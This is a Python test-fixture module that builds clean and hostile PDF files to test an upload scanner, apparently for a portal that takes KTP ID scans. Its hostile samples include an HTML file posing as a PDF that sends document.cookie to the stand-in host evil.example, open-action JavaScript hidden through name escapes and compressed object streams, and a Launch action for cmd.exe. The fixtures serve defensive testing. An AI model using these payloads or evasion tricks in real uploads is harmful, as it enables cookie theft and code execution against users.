"""Real files for the upload checks: clean PDFs as scanners and the portal make them, and hostile ones."""

from __future__ import annotations

import io
import random
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

HTML_CALLED_PDF = b"<html><body>%PDF-1.4\n<script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n"


def assemble(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF file from numbered object bodies (object n is ``objects[n - 1]``), with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    )
    return out.getvalue()


PAGE_TREE = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def with_open_action(action: bytes) -> bytes:
    """A one-page PDF that runs ``action`` when opened."""
    return assemble([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGE_TREE, action])


JAVASCRIPT_ON_OPEN = with_open_action(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('KTP'\\);) >>")
# The same, with the names spelled through #xx escapes, as obfuscating tools write them.
ESCAPED_JAVASCRIPT = with_open_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>")
LAUNCH_ON_OPEN = with_open_action(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")


def javascript_in_object_stream() -> bytes:
    """JavaScript hidden in a compressed object stream (PDF 1.5), out of sight of a plain byte search."""
    hidden = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>"
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    stream = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(packed),
    )
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGE_TREE,
            b"null",
            stream + packed + b"\nendstream",
        ]
    )


def pypdf_document(javascript: str | None = None, attachment: bytes | None = None) -> bytes:
    """A blank page written by pypdf, optionally with document JavaScript or an attached file."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        writer.add_open_action(JavaScript(javascript))
    if attachment is not None:
        writer.add_attachment("lampiran.xlsx", attachment)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def scanned_ktp(seed: int = 0, size: tuple[int, int] = (1200, 760)) -> bytes:
    """A PDF such as a phone scanner makes: one photo (noise, the hardest case for a byte search)."""
    rng = random.Random(seed)
    image = Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))
    buffer = io.BytesIO()
    image.save(buffer, format="PDF", resolution=150)
    return buffer.getvalue()
